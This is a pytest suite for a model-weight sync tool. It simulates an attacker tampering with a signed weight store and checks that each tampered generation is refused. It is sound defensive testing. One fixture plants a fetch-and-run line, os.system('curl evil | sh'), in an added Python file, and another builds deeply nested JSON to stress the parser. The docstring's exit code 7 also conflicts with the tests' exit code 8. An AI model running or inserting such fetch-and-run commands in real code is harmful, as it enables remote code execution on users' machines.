"""Signed generations, tested as an attacker would try them.

A publisher signs each generation with `weights publish --sign-key` (OpenSSF Model
Signing, real EC keys made here); a store served by nginx, or held in a bucket of versitygw;
a standby that holds signed generation 1 and syncs generation 2 with `--verify`. The
attacker can write the store (the served directory; the bucket, with S3 PUTs): it
republishes generation 2 with its own bytes and a consistent index (standbyc's own publish,
called past the command line's checks), or replays another generation. Every attack ends
in exit 7 with a message naming what failed, the standby's directory byte for byte what it
was, no engine asked to load anything (an HTTP listener on the engines' address records
every request), the refusal pushed to a real Pushgateway, and nothing left in work/.
"""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from compiler.weights.sync.publish import PublishOptions
from compiler.weights.sync.publish import publish as store_publish
from tests.servers import Pushgateway
from tests.sync.conftest import MODEL, Nginx, publish, tree_bytes
from tests.sync.s3bucket import BUCKET, S3
from tests.sync.signing import Keys, Listener, key_trust, pushed, reports, sync

# --- the store the attacker writes -----------------------------------------------------------


@dataclass
class Store:
    """Where generations are published and how the standby reads them: a directory nginx
    serves, or a versitygw bucket, every object written with S3 PUTs as another tool
    would (``client``)."""

    root: Path  # what publish writes
    source: str
    client: Any = None
    env: dict[str, str] | None = None

    def put(self, model: Path, generation: int) -> None:
        # As an attacker who can write the store would: publish's own refusal of an
        # unsigned generation after a signed one does not stand in the way.
        store_publish(model, self.root, generation, PublishOptions(allow_unsigned=True))
        if self.client is None:
            return
        files = sorted(p for p in self.root.rglob("*") if p.is_file() and p.name != "index.json")
        for path in [*files, self.root / "index.json"]:  # the index last, as publish does
            key = f"m/{path.relative_to(self.root).as_posix()}"
            self.client.upload_file(str(path), BUCKET, key)

    def reset(self) -> None:
        shutil.rmtree(self.root)
        self.root.mkdir()
        if self.client is not None:
            pages = self.client.get_paginator("list_objects_v2").paginate(
                Bucket=BUCKET, Prefix="m/"
            )
            for obj in (o for page in pages for o in page.get("Contents", [])):
                self.client.delete_object(Bucket=BUCKET, Key=obj["Key"])


@pytest.fixture(params=["nginx", "versitygw"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Store:
    if request.param == "nginx":
        nginx: Nginx = request.getfixturevalue("nginx")
        return Store(nginx.root, nginx.url)
    bucket: S3 = request.getfixturevalue("s3")
    (tmp_path / "bucket/m").mkdir(parents=True)
    return Store(tmp_path / "bucket/m", f"s3://{BUCKET}/m", bucket.client, bucket.env())


# --- what the attacker publishes as generation 2 --------------------------------------------


def _copy(src: Path, work: Path) -> Path:
    dest = work / "attack"
    shutil.copytree(src, dest)
    return dest


def tampered_shard(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    shard = sorted(d.glob("model-*-of-*.safetensors"))[0]
    data = bytearray(shard.read_bytes())
    data[-1] ^= 0x40  # one bf16 weight of the last tensor: still a valid checkpoint
    shard.write_bytes(bytes(data))
    return d


def tampered_config(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    config = json.loads((d / "config.json").read_text())
    config["rms_norm_eps"] = 0.5
    (d / "config.json").write_text(json.dumps(config))
    return d


def tampered_tokenizer(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    text = (d / "tokenizer.json").read_text()
    (d / "tokenizer.json").write_text(text.replace('"<unk>"', '"<pwned>"', 1))
    return d


def signature_of_generation_1(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    shutil.copyfile(s[1] / "model.sig", d / "model.sig")
    return d


def replayed_generation_1(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    return _copy(s[1], work)  # signed, and valid: as generation 1


def signed_by_another_key(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = tampered_shard(s, work, keys)
    doc = publish(d, work / "attacker-store", 2, "--sign-key", str(keys.attacker),
                  "--model", MODEL)  # fmt: skip
    assert doc["signature"]["how"] == "signed"
    return d


def file_added(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "modeling_llama.py").write_text("import os; os.system('curl evil | sh')\n")
    return d


def file_removed(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "tokenizer.json").unlink()
    return d


def signature_stripped(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "model.sig").unlink()
    return d


ATTACKS: dict[str, tuple[Callable[[dict[int, Path], Path, Keys], Path], str]] = {
    "a tampered shard": (tampered_shard, "Hash mismatch for 'model-00001-of-"),
    "a tampered config.json": (tampered_config, "Hash mismatch for 'config.json'"),
    "a tampered tokenizer": (tampered_tokenizer, "Hash mismatch for 'tokenizer.json'"),
    "generation 1's signature": (signature_of_generation_1, "Hash mismatch for"),
    "generation 1 replayed": (replayed_generation_1, "the signature is of generation 1, not 2"),
    "another key's signature": (signed_by_another_key, "Key mismatch"),
    "a file added": (file_added, "Extra files found: modeling_llama.py"),
    "a file removed": (file_removed, "Missing files: tokenizer.json"),
    "the signature stripped": (signature_stripped, "generation 2 has no model.sig"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_on_the_store_is_refused_and_changes_nothing(
    attack: str,
    signed: dict[int, Path],
    keys: Keys,
    store: Store,
    tmp_path: Path,
    *,
    engine: Listener,
    pushgateway: Pushgateway,
) -> None:
    build, message = ATTACKS[attack]
    store.put(signed[1], 1)
    target = tmp_path / "weights/hot/llama"
    trust, env = key_trust(keys), store.env
    code, doc, err = sync(target, store.source, 1, *trust, *reports(pushgateway.url), env=env)
    assert code == 0, err
    assert doc["verified"]["generation"] == 1, doc
    before = tree_bytes(target)
    # The attacker publishes its generation 2: the index is consistent with its files.
    store.put(build(signed, tmp_path, keys), 2)
    code, doc, err = sync(target, store.source, 2, *trust, *engine.asks(target),
                          *reports(pushgateway.url), env=env)  # fmt: skip
    assert code == 8, err
    assert f"{target}: generation 2 refused: " in doc["error"], doc["error"]
    assert message in doc["error"], doc["error"]
    assert tree_bytes(target) == before
    assert engine.requests == []
    assert not (target.parent / ".standbyc/llama/work").exists()
    assert (doc["held_generation"], doc["refused_generation"]) == (1, 2)
    metrics = pushgateway.metrics()
    assert pushed(metrics, "standbyc_weights_refused_generation") == 2
    assert pushed(metrics, "standbyc_weights_generation") == 1
    # The same store again: refused again, and still nothing changed.
    code, doc, err = sync(target, store.source, 2, *trust, *engine.asks(target), env=env)
    assert code == 8 and tree_bytes(target) == before, err
    assert engine.requests == []
    # The publisher's own generation 2: verified, swapped in, and the engines are asked.
    store.reset()
    store.put(signed[1], 1)
    store.put(signed[2], 2)
    code, doc, err = sync(target, store.source, 2, *trust, *engine.asks(target),
                          *reports(pushgateway.url), env=env)  # fmt: skip
    assert code == 5, err  # the listener is no engine: asked, it did not load
    assert doc["verified"]["generation"] == 2, doc
    assert tree_bytes(target) == tree_bytes(signed[2])
    assert engine.requests  # verified: the engines are asked (this one answers nothing)
    assert pushed(pushgateway.metrics(), "standbyc_weights_refused_generation") == 0


# --- a model.sig that cannot be read ---------------------------------------------------------


def _resigned(s: dict[int, Path], work: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """Generation 2 with its model.sig (a JSON bundle) changed by ``change``."""
    d = _copy(s[2], work)
    doc = json.loads((d / "model.sig").read_text())
    change(doc)
    (d / "model.sig").write_text(json.dumps(doc))
    return d


def _payload(change: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        env = doc["dsseEnvelope"]
        payload = json.loads(base64.b64decode(env["payload"]))
        env["payload"] = base64.b64encode(json.dumps(change(payload)).encode()).decode()

    return edit


def _shard_named_1(payload: dict[str, Any]) -> dict[str, Any]:
    payload["predicate"]["resources"][0]["name"] = 1
    return payload


DEEP = "[" * 200_000 + "]" * 200_000


def _write_sig(d: Path, text: str) -> Path:
    (d / "model.sig").write_text(text)
    return d


def deeply_nested(s: dict[int, Path], work: Path) -> Path:
    return _write_sig(_copy(s[2], work), DEEP)


def nested_payload(s: dict[int, Path], work: Path) -> Path:
    deep = base64.b64encode(DEEP.encode()).decode()
    return _resigned(s, work, lambda d: d["dsseEnvelope"].update(payload=deep))


def material_a_list(s: dict[int, Path], work: Path) -> Path:
    return _resigned(s, work, lambda d: d.update(verificationMaterial=[]))


def chain_entry_a_string(s: dict[int, Path], work: Path) -> Path:
    material = {"x509CertificateChain": {"certificates": ["x"]}}
    return _resigned(s, work, lambda d: d.update(verificationMaterial=material))


def raw_bytes_not_base64(s: dict[int, Path], work: Path) -> Path:
    material = {"certificate": {"rawBytes": "!!not base64!!"}}
    return _resigned(s, work, lambda d: d.update(verificationMaterial=material))


def resource_named_1(s: dict[int, Path], work: Path) -> Path:
    return _resigned(s, work, _payload(_shard_named_1))


MALFORMED: dict[str, Callable[[dict[int, Path], Path], Path]] = {
    "deeply nested JSON": deeply_nested,
    "a nested payload": nested_payload,
    "verificationMaterial a list": material_a_list,
    "a chain entry a string": chain_entry_a_string,
    "bad base64 in rawBytes": raw_bytes_not_base64,
    "a resource with an integer name": resource_named_1,
}


@pytest.mark.parametrize("malformed", sorted(MALFORMED))
def test_a_signature_that_cannot_be_read_is_a_refusal(
    malformed: str, signed: dict[int, Path], keys: Keys, tmp_path: Path, *,
    nginx: Nginx, pushgateway: Pushgateway,
) -> None:  # fmt: skip
    """Whoever can write the store must not turn "weights refused" into "Job failed": every
    signature that cannot be verified is refused (exit 8, pushed, the old directory kept),
    never an internal error."""
    store = Store(nginx.root, nginx.url)
    store.put(signed[1], 1)
    target = tmp_path / "weights/hot/llama"
    trust = key_trust(keys)
    code, _, err = sync(target, store.source, 1, *trust, *reports(pushgateway.url))
    assert code == 0, err
    before = tree_bytes(target)
    store.put(MALFORMED[malformed](signed, tmp_path), 2)
    code, doc, err = sync(target, store.source, 2, *trust, *reports(pushgateway.url))
    assert code == 8, err
    assert "Traceback" not in err and "a bug in standbyc" not in err
    assert "generation 2 refused: " in doc["error"], doc["error"]
    assert tree_bytes(target) == before
    assert (doc["held_generation"], doc["refused_generation"]) == (1, 2)
    assert pushed(pushgateway.metrics(), "standbyc_weights_refused_generation") == 2
